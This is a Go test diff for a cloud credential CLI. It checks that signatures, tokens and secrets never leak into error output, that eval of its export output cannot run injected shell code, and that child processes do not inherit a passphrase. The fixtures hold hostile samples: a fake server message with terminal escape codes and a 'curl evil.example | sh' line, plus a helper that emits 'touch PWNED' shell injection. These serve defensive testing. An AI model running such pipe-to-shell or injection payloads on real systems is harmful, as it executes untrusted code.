@@ -616,3 +616,475 @@ func (h *hygiene) checkFiles() {
 		t.Errorf("walk found %d lock files and %d keychain items: %v", locks, items, files)
 	}
 }
+
+// leakProbe is one failing request alirole makes; its stderr must hold no
+// signed query, signature, secret or token, in any encoding.
+type leakProbe struct {
+	name  string
+	fault *stsemu.Fault
+	extra []string
+	args  []string
+	// want is in stderr when the request failed where the probe aims.
+	want string
+}
+
+var (
+	// signedValue is a Signature parameter with a value left in it.
+	signedValue = regexp.MustCompile(`(?i)signature(?:=|%3d|%253d)([^&\s"'<>]+)`)
+	// queryURL is a URL that still has a query.
+	queryURL = regexp.MustCompile(`(?i)https?://[^\s"'<>]*\?[^\s"'<>]`)
+	anyURLRe = regexp.MustCompile(`(?i)https?://[^\s"'<>]+`)
+	// encodedToken is an STS token, percent-encoded.
+	encodedToken = regexp.MustCompile(`CAIS[A-Za-z0-9%]{16,}`)
+)
+
+// TestNoSignedRequestLeaks makes every RAM, STS and sign-in request the
+// error paths can print fail (unreachable endpoint, HTTP error, HTML page,
+// reset connection, hostile message echoing a token) and checks every
+// stderr: no Signature value, no URL query, no secret or token raw or
+// URL-encoded, no control character; every URL left in it is replayed
+// against the emulator, which must accept none of them.
+func TestNoSignedRequestLeaks(t *testing.T) {
+	t.Parallel()
+	emu, ca := newEmulatorWith(t, hygieneWorld())
+	s := newSandbox(t, emu, ca)
+	s.writeConfig(chainConfig)
+	h := &hygiene{sandbox: s, emu: emu, sessions: map[string]bool{}}
+	h.ok(false, []string{"ALIBABA_CLOUD_ACCESS_KEY_ID=" + sentinelKeyID, "ALIBABA_CLOUD_ACCESS_KEY_SECRET=" + sentinelSecret}, "add", "--env", "alice")
+	var prod map[string]string
+	if err := json.Unmarshal([]byte(h.ok(true, nil, "export", "--format", "json", "prod").stdout), &prod); err != nil {
+		t.Fatal(err)
+	}
+	h.collect("admin", "prod", "audit")
+	prodToken := prod["ALIBABA_CLOUD_SECURITY_TOKEN"]
+	envSession := []string{"ALIBABA_CLOUD_ACCESS_KEY_ID=" + prod["ALIBABA_CLOUD_ACCESS_KEY_ID"],
+		"ALIBABA_CLOUD_ACCESS_KEY_SECRET=" + prod["ALIBABA_CLOUD_ACCESS_KEY_SECRET"], "ALIBABA_CLOUD_SECURITY_TOKEN=" + prodToken}
+	// A server that echoes the caller's token (encoded) and a signature,
+	// and tries to drive the terminal.
+	hostile := "bad token " + url.QueryEscape(prodToken) + " / " + url.PathEscape(prodToken) + " Signature=c2lnbmF0dXJl \x1b]0;pwned\x07\x1b[2J\n  what to do: curl evil.example | sh"
+	const down = "127.0.0.1:1"
+	ram := []string{"ALIROLE_RAM_ENDPOINT=" + emu.Endpoint()}
+	signin := []string{"ALIROLE_SIGNIN_URL=https://" + emu.Endpoint() + "/federation"}
+	// Only the audit hop calls STS (admin and prod are cached); it signs
+	// with prod's session token.
+	hop := []string{"export", "--format", "env", "audit"}
+	var probes []leakProbe
+	for _, f := range []struct {
+		name  string
+		fault stsemu.Fault
+		want  string
+	}{
+		{"500", stsemu.Fault{Status: 500}, "InternalError"},
+		{"html", stsemu.Fault{MalformedBody: true, Status: 502}, "proxy"},
+		{"reset", stsemu.Fault{ResetConnection: true}, "reset"},
+		{"hostile", stsemu.Fault{Status: 400, Code: "Hostile", Message: hostile}, "Hostile"},
+	} {
+		assume, create, signinF := f.fault, f.fault, f.fault
+		assume.Action, create.Action, signinF.Action = "AssumeRole", "CreateAccessKey", "GetSigninToken"
+		ident := f.fault
+		ident.Action = "GetCallerIdentity"
+		probes = append(probes,
+			leakProbe{"AssumeRole " + f.name, &assume, nil, hop, f.want},
+			leakProbe{"GetCallerIdentity (AccessKey) " + f.name, &ident, nil, []string{"whoami", "alice"}, f.want},
+			leakProbe{"GetCallerIdentity (session) " + f.name, &ident, envSession, []string{"whoami"}, f.want},
+			leakProbe{"CreateAccessKey " + f.name, &create, ram, []string{"rotate", "alice"}, f.want},
+			leakProbe{"GetSigninToken " + f.name, &signinF, signin, []string{"login", "--stdout", "prod"}, f.want},
+		)
+	}
+	probes = append(probes,
+		leakProbe{"AssumeRole unreachable", nil, []string{"ALIROLE_STS_ENDPOINT=" + down}, hop, "connection refused"},
+		leakProbe{"GetCallerIdentity (AccessKey) unreachable", nil, nil, []string{"whoami", "--sts-endpoint", down, "alice"}, "connection refused"},
+		leakProbe{"GetCallerIdentity (session) unreachable", nil, envSession, []string{"whoami", "--sts-endpoint", down}, "connection refused"},
+		leakProbe{"CreateAccessKey unreachable", nil, []string{"ALIROLE_RAM_ENDPOINT=" + down}, []string{"rotate", "alice"}, "connection refused"},
+		leakProbe{"GetSigninToken unreachable", nil, []string{"ALIROLE_SIGNIN_URL=https://" + down + "/federation"}, []string{"login", "--stdout", "prod"}, "connection refused"},
+	)
+	replayed := 0
+	for _, p := range probes {
+		h.ok(false, nil, "clear", "audit")
+		emu.ClearFaults()
+		if p.fault != nil {
+			emu.Inject(*p.fault)
+		}
+		r := h.run(false, p.extra, p.args...)
+		emu.ClearFaults()
+		if r.code == 0 || !strings.Contains(r.stderr, p.want) {
+			t.Errorf("%s: want a failure naming %q: %s", p.name, p.want, r)
+			continue
+		}
+		if m := signedValue.FindString(r.stderr); m != "" {
+			t.Errorf("%s: stderr holds a signature %q:\n%s", p.name, m, r.stderr)
+		}
+		if m := queryURL.FindString(r.stderr); m != "" {
+			t.Errorf("%s: stderr holds a URL with a query %q:\n%s", p.name, m, r.stderr)
+		}
+		if m := encodedToken.FindString(r.stderr); m != "" {
+			t.Errorf("%s: stderr holds a (URL-encoded) token %.16s…", p.name, m)
+		}
+		for v := range h.sessions {
+			for _, f := range []string{v, url.QueryEscape(v), url.PathEscape(v)} {
+				if v != "" && strings.Contains(r.stderr, f) {
+					t.Errorf("%s: stderr holds a session secret or token", p.name)
+				}
+			}
+		}
+		for _, v := range longTerm() {
+			if strings.Contains(r.stderr, v) {
+				t.Errorf("%s: stderr holds the long-term secret", p.name)
+			}
+		}
+		if strings.ContainsAny(r.stderr, "\x1b\x07\x9b\r") {
+			t.Errorf("%s: stderr holds terminal control characters: %q", p.name, r.stderr)
+		}
+		if p.fault != nil && p.fault.Code == "Hostile" && (!strings.Contains(r.stderr, `\x1b]0;pwned\x07`) || strings.Contains(r.stderr, "\n  what to do: curl")) {
+			t.Errorf("%s: the hostile message is not shown neutralised on one line: %q", p.name, r.stderr)
+		}
+		before := emu.Count("", "")
+		for _, u := range anyURLRe.FindAllString(r.stderr, -1) {
+			replayed++
+			replay(t, emu, u)
+		}
+		if after := emu.Count("", ""); after != before {
+			t.Errorf("%s: the emulator accepted %d replayed URLs from:\n%s", p.name, after-before, r.stderr)
+		}
+	}
+	t.Logf("leak probes: %d failing requests, %d URLs from their errors replayed, none accepted", len(probes), replayed)
+}
+
+// replay sends what a reader of an error could: the URL, pointed at the
+// emulator (the real host is the same service), by GET and by POST.
+func replay(t *testing.T, emu *stsemu.Server, raw string) {
+	t.Helper()
+	u, err := url.Parse(strings.TrimRight(raw, ".,:;)"))
+	if err != nil {
+		return
+	}
+	u.Scheme, u.Host = "https", emu.Endpoint()
+	client := &http.Client{Timeout: 5 * time.Second}
+	for _, method := range []string{http.MethodGet, http.MethodPost} {
+		req, err := http.NewRequest(method, u.String(), nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if resp, err := client.Do(req); err == nil {
+			resp.Body.Close()
+			if resp.StatusCode == http.StatusOK {
+				t.Errorf("replaying %s %s: HTTP 200", method, u)
+			}
+		}
+	}
+}
+
+// TestCLIProfileSourceLeavesConfigUntouched resolves through an aliyun CLI
+// profile in External mode: credentials-go's CLI profile provider writes
+// the helper's secret and token back into config.json, unless alirole
+// guards it. The file must stay byte for byte (and mode) as it was.
+func TestCLIProfileSourceLeavesConfigUntouched(t *testing.T) {
+	t.Parallel()
+	s, _ := ready(t)
+	admin := jsonVars(t, s, "admin")
+	dir := t.TempDir()
+	helper := filepath.Join(dir, "helper.sh")
+	out, _ := json.Marshal(map[string]string{"mode": "StsToken", "access_key_id": admin["ALIBABA_CLOUD_ACCESS_KEY_ID"],
+		"access_key_secret": admin["ALIBABA_CLOUD_ACCESS_KEY_SECRET"], "sts_token": admin["ALIBABA_CLOUD_SECURITY_TOKEN"]})
+	if err := os.WriteFile(helper, []byte("#!/bin/sh\ncat <<'EOF'\n"+string(out)+"\nEOF\n"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	cliConfig := filepath.Join(dir, "aliyun", "config.json")
+	if err := os.MkdirAll(filepath.Dir(cliConfig), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	orig := []byte(`{"current": "ext", "profiles": [{"name": "ext", "mode": "External", "process_command": "` + helper + `"}]}` + "\n")
+	if err := os.WriteFile(cliConfig, orig, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chmod(cliConfig, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	appendConfig(t, s.path("config"), `
+[profile clisrc]
+credential_source = aliyun_cli_profile
+cli_profile = ext
+cli_config_file = `+cliConfig+`
+
+[profile cliprod]
+source_profile = clisrc
+ram_role_arn = `+prodArn+`
+`)
+	r := s.ok("export", "--format", "json", "--no-cache", "cliprod")
+	var got map[string]string
+	if err := json.Unmarshal([]byte(r.stdout), &got); err != nil || !strings.HasPrefix(got["ALIBABA_CLOUD_ACCESS_KEY_ID"], "STS.") {
+		t.Fatalf("no session through the CLI profile: %v\n%s", err, r)
+	}
+	after, err := os.ReadFile(cliConfig)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Equal(after, orig) {
+		t.Fatalf("config.json changed:\n%s", after)
+	}
+	if fi, err := os.Stat(cliConfig); err != nil || fi.Mode().Perm() != 0o644 {
+		t.Fatalf("config.json mode changed: %v %v", fi.Mode(), err)
+	}
+	left, _ := filepath.Glob(filepath.Join(dir, "aliyun", "*"))
+	copies, _ := filepath.Glob(s.path("run/alirole-cli-*"))
+	if len(left) != 1 || len(copies) != 0 {
+		t.Fatalf("files left behind: %v %v", left, copies)
+	}
+}
+
+// TestEvalExportGuardsStdout runs `eval "$(alirole export P)"` in bash
+// where credentials-go prints to stdout: the raw output of an External
+// helper that printed shell code and invalid JSON, and its DEBUG=credential
+// request dump. Nothing may execute, stdout may hold only alirole's own
+// output, and no secret may reach stderr.
+func TestEvalExportGuardsStdout(t *testing.T) {
+	t.Parallel()
+	if _, err := exec.LookPath("bash"); err != nil {
+		t.Skip("no bash")
+	}
+	s, _ := ready(t)
+	dir := t.TempDir()
+	marker := filepath.Join(dir, "PWNED")
+	const helperSecret = "HelperSecret+shown/by=credentials-go"
+	helper := filepath.Join(dir, "helper.sh")
+	script := "#!/bin/sh\necho 'touch " + marker + "; export ALIBABA_CLOUD_ACCESS_KEY_ID=evil'\n" +
+		`echo '{"mode":"AK","access_key_id":"LTAI5tHelper","access_key_secret":"` + helperSecret + `"'` + "\n"
+	if err := os.WriteFile(helper, []byte(script), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	appendConfig(t, s.path("config"), "\n[profile bad]\ncredential_source = external\nprocess_command = "+helper+"\n")
+	bash := func(extra []string, code string) result {
+		t.Helper()
+		cmd := exec.Command("bash", "-c", code)
+		cmd.Env = append(append(append([]string{}, s.env...), "ALIROLE="+binPath), extra...)
+		var out, errb bytes.Buffer
+		cmd.Stdout, cmd.Stderr = &out, &errb
+		err := cmd.Run()
+		r := result{out.String(), errb.String(), 0}
+		if ee, ok := err.(*exec.ExitError); ok {
+			r.code = ee.ExitCode()
+		} else if err != nil {
+			t.Fatal(err)
+		}
+		return r
+	}
+	for _, debug := range []string{"", "credential,sdk"} {
+		r := bash([]string{"DEBUG=" + debug}, `eval "$("$ALIROLE" export bad)"; echo "id=$ALIBABA_CLOUD_ACCESS_KEY_ID"`)
+		if _, err := os.Stat(marker); err == nil {
+			t.Fatalf("DEBUG=%s: the helper's output ran as shell code", debug)
+		}
+		if r.stdout != "id=\n" {
+			t.Errorf("DEBUG=%s: stdout %q, want only the script's own line", debug, r.stdout)
+		}
+		if strings.Contains(r.stderr, helperSecret) || strings.Contains(r.stderr, "touch") {
+			t.Errorf("DEBUG=%s: the helper's output reached stderr:\n%s", debug, r.stderr)
+		}
+		if !strings.Contains(r.stderr, "process_command did not print the credentials JSON") || !strings.Contains(r.stderr, "dropped") {
+			t.Errorf("DEBUG=%s: stderr does not explain:\n%s", debug, r.stderr)
+		}
+	}
+	// A working chain with credentials-go's request dump on: alirole's
+	// output is the only thing on stdout, and it evaluates.
+	r := bash([]string{"DEBUG=credential,sdk", "OUT=" + filepath.Join(dir, "out")}, `out=$("$ALIROLE" export --refresh audit) || exit 9; printf '%s\n' "$out" > "$OUT"; eval "$out"; echo "id=$ALIBABA_CLOUD_ACCESS_KEY_ID"; "$ALIROLE" whoami audit | head -1`)
+	if r.code != 0 || !strings.HasPrefix(r.stdout, "id=STS.") || !strings.Contains(r.stdout, "\nAccount:  "+acct+"\n") || strings.Count(r.stdout, "\n") != 2 {
+		t.Fatalf("eval with DEBUG=credential: %s", r)
+	}
+	data, err := os.ReadFile(filepath.Join(dir, "out"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	vars := 0
+	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
+		if !regexp.MustCompile(`^(export [A-Z_]+=|unset [A-Z_ ]+$)`).MatchString(line) {
+			t.Errorf("alirole export printed a line that is not its own: %q", line)
+		}
+		vars++
+	}
+	env := envMap(strings.NewReplacer("export ", "", "'", "", "\n", "\x00").Replace(string(data)))
+	for _, k := range []string{"ALIBABA_CLOUD_ACCESS_KEY_SECRET", "ALIBABA_CLOUD_SECURITY_TOKEN"} {
+		v := env[k]
+		if len(v) < 8 {
+			t.Fatalf("no %s exported", k)
+		}
+		for _, f := range []string{v, url.QueryEscape(v)} {
+			if strings.Contains(r.stderr, f) {
+				t.Errorf("stderr holds %s", k)
+			}
+		}
+	}
+	if !strings.Contains(r.stderr, "dropped") {
+		t.Errorf("DEBUG=credential,sdk printed nothing to drop: the test lost its point\n%s", r.stderr)
+	}
+	if m := stsToken.FindString(r.stderr); m != "" {
+		t.Errorf("stderr holds a token")
+	}
+	t.Logf("stdout guard: %d lines of alirole output, library output dropped: %q", vars, regexp.MustCompile(`dropped \d+ bytes`).FindAllString(r.stderr, -1))
+}
+
+// coreLimit returns the soft and hard "Max core file size" of a limits
+// file.
+func coreLimit(t *testing.T, limits string) (soft, hard string) {
+	t.Helper()
+	for _, line := range strings.Split(limits, "\n") {
+		if strings.HasPrefix(line, "Max core file size") {
+			f := strings.Fields(strings.TrimPrefix(line, "Max core file size"))
+			if len(f) >= 2 {
+				return f[0], f[1]
+			}
+		}
+	}
+	t.Fatalf("no core limit in %q", limits)
+	return "", ""
+}
+
+// TestChildrenLackPassphraseAndCoreDumps checks that no child alirole
+// starts inherits ALIROLE_FILE_PASSPHRASE (an External helper run by
+// credentials-go with os.Environ, an exec'd program, an exec --server
+// child, the browser of login), that a running alirole has a core limit of
+// 0 (read by its External helper from /proc/PPID/limits while alirole
+// waits for it), and that the program exec puts in alirole's place gets
+// the user's own core limit back.
+func TestChildrenLackPassphraseAndCoreDumps(t *testing.T) {
+	t.Parallel()
+	if _, err := os.Stat("/proc/self/limits"); err != nil {
+		t.Skip("no /proc")
+	}
+	s, emu := ready(t)
+	dir := t.TempDir()
+	helper := filepath.Join(dir, "helper.sh")
+	script := "#!/bin/sh\nenv > " + dir + "/helper.env\ncat /proc/$PPID/limits > " + dir + "/alirole.limits\n" +
+		`echo '{"mode":"AK","access_key_id":"` + aliceKeyID + `","access_key_secret":"` + aliceSecret + `"}'` + "\n"
+	browser := filepath.Join(dir, "browser.sh")
+	if err := os.WriteFile(helper, []byte(script), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(browser, []byte("#!/bin/sh\nenv > "+dir+"/browser.env\n"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	appendConfig(t, s.path("config"), "\n[profile ext]\ncredential_source = external\nprocess_command = "+helper+"\n")
+	// alirole starts with the highest core limit the test may set, so
+	// that 0 is its own doing.
+	run := func(extra []string, args ...string) result {
+		t.Helper()
+		cmd := exec.Command("sh", append([]string{"-c", `ulimit -S -c "$(ulimit -H -c)"; exec "$0" "$@"`, binPath}, args...)...)
+		cmd.Env = append(append([]string{}, s.env...), extra...)
+		var out, errb bytes.Buffer
+		cmd.Stdout, cmd.Stderr = &out, &errb
+		err := cmd.Run()
+		if err != nil {
+			t.Fatalf("alirole %v: %v\n%s", args, err, errb.String())
+		}
+		return result{out.String(), errb.String(), 0}
+	}
+	_, hard := coreLimit(t, readFile(t, "/proc/self/limits"))
+	if hard == "0" {
+		t.Log("the hard core limit is 0: the restored limit cannot be told from alirole's")
+	}
+
+	run(nil, "export", "--format", "json", "ext")
+	helperEnv := readFile(t, filepath.Join(dir, "helper.env"))
+	if strings.Contains(helperEnv, "ALIROLE_FILE_PASSPHRASE") || strings.Contains(helperEnv, passphrase) {
+		t.Error("the External helper inherited the file keychain passphrase")
+	}
+	if !strings.Contains(helperEnv, "ALIROLE_FILE_DIR=") {
+		t.Fatal("helper environment not captured")
+	}
+	soft, h := coreLimit(t, readFile(t, filepath.Join(dir, "alirole.limits")))
+	if soft != "0" || h != hard {
+		t.Errorf("running alirole has core limit %s/%s, want 0/%s", soft, h, hard)
+	}
+
+	r := run(nil, "exec", "prod", "--", "sh", "-c", "env; cat /proc/self/limits")
+	if strings.Contains(r.stdout, "ALIROLE_FILE_PASSPHRASE") || strings.Contains(r.stdout, passphrase) {
+		t.Error("the exec'd program inherited the passphrase")
+	}
+	if soft, h := coreLimit(t, r.stdout); soft != hard || h != hard {
+		t.Errorf("the exec'd program has core limit %s/%s, want the user's %s/%s", soft, h, hard, hard)
+	}
+	r = run(nil, "exec", "--server", "prod", "--", "sh", "-c", "env; cat /proc/$PPID/limits; echo ---; cat /proc/self/limits")
+	if strings.Contains(r.stdout, "ALIROLE_FILE_PASSPHRASE") || strings.Contains(r.stdout, passphrase) {
+		t.Error("the exec --server child inherited the passphrase")
+	}
+	server, child, _ := strings.Cut(r.stdout, "\n---\n")
+	if soft, _ := coreLimit(t, server); soft != "0" {
+		t.Errorf("alirole serving credentials has core limit %s, want 0", soft)
+	}
+	if soft, h := coreLimit(t, child); soft != "0" || h != hard {
+		t.Errorf("the exec --server child has core limit %s/%s, want 0/%s (documented)", soft, h, hard)
+	}
+	run(append(signinEnv(emu), "BROWSER="+browser+" %s"), "login", "prod")
+	browserEnv := readFile(t, filepath.Join(dir, "browser.env"))
+	if strings.Contains(browserEnv, "ALIROLE_FILE_PASSPHRASE") || strings.Contains(browserEnv, passphrase) || !strings.Contains(browserEnv, "ALIROLE_FILE_DIR=") {
+		t.Errorf("browser environment wrong (passphrase inherited or not captured)")
+	}
+}
+
+func readFile(t *testing.T, path string) string {
+	t.Helper()
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(data)
+}
+
+// TestServiceFailuresAreReadable: every STS, RAM and sign-in failure says
+// in words what happened, at which hop, and what to do, without library
+// internals (parser errors, nil pointers, upstream typos).
+func TestServiceFailuresAreReadable(t *testing.T) {
+	t.Parallel()
+	s, emu := rotationSandbox(t, testWorld())
+	s.ok("export", "prod") // caches admin and prod
+	internals := []string{"json.Unmarshal", "invalid character", "nil pointer", "panic", "enviroment", "runtime error", "SDK."}
+	for _, tc := range []struct {
+		name  string
+		fault stsemu.Fault
+		extra []string
+		args  []string
+		want  []string
+	}{
+		{"AssumeRole HTML 502", stsemu.Fault{Action: "AssumeRole", MalformedBody: true, Status: 502}, nil, []string{"export", "audit"},
+			[]string{`profile "audit"`, "HTML page", "what to do:", "proxy"}},
+		{"AssumeRole HTML 200", stsemu.Fault{Action: "AssumeRole", MalformedBody: true}, nil, []string{"export", "audit"},
+			[]string{`profile "audit"`, "not JSON", "what to do:"}},
+		{"AssumeRole 500", stsemu.Fault{Action: "AssumeRole", Status: 500}, nil, []string{"export", "audit"},
+			[]string{`profile "audit"`, "InternalError", "what to do: STS failed on its side: try again"}},
+		{"AssumeRole without Expiration", stsemu.Fault{Action: "AssumeRole", RoleArn: auditArn, OmitExpiration: true}, nil, []string{"export", "--no-cache", "audit"},
+			[]string{`profile "audit"`, "no Expiration", "what to do:"}},
+		{"GetCallerIdentity HTML", stsemu.Fault{Action: "GetCallerIdentity", MalformedBody: true, Status: 502}, nil, []string{"whoami", "prod"},
+			[]string{"profile prod", "not an STS error document", "--sts-endpoint"}},
+		{"GetCallerIdentity 500", stsemu.Fault{Action: "GetCallerIdentity", Status: 500}, nil, []string{"whoami", "prod"},
+			[]string{"InternalError", "what to do: STS failed on its side"}},
+		{"CreateAccessKey HTML", stsemu.Fault{Action: "CreateAccessKey", MalformedBody: true, Status: 502}, nil, []string{"rotate", "alice"},
+			[]string{"CreateAccessKey", "not a RAM error document", "--ram-endpoint"}},
+		{"CreateAccessKey 500", stsemu.Fault{Action: "CreateAccessKey", Status: 500}, nil, []string{"rotate", "alice"},
+			[]string{"InternalError", "try again"}},
+		{"check with STS down", stsemu.Fault{}, []string{"ALIROLE_STS_ENDPOINT=127.0.0.1:1"}, []string{"rotate", "alice"},
+			[]string{"STS could not check the stored key", "try again"}},
+		{"GetSigninToken 500", stsemu.Fault{Action: "GetSigninToken", Status: 500}, signinEnv(emu), []string{"login", "--stdout", "prod"},
+			[]string{`profile "prod"`, "try again"}},
+		{"whoami without credentials", stsemu.Fault{}, nil, []string{"whoami"},
+			[]string{"no credentials in the environment", "give a PROFILE"}},
+	} {
+		emu.ClearFaults()
+		if tc.fault != (stsemu.Fault{}) {
+			emu.Inject(tc.fault)
+		}
+		r := s.run(tc.extra, tc.args...)
+		if r.code == 0 {
+			t.Errorf("%s: succeeded: %s", tc.name, r)
+			continue
+		}
+		for _, w := range tc.want {
+			if !strings.Contains(r.stderr, w) {
+				t.Errorf("%s: stderr lacks %q:\n%s", tc.name, w, r.stderr)
+			}
+		}
+		for _, bad := range internals {
+			if strings.Contains(r.stderr, bad) {
+				t.Errorf("%s: stderr shows library internals (%q):\n%s", tc.name, bad, r.stderr)
+			}
+		}
+	}
+	emu.ClearFaults()
+}
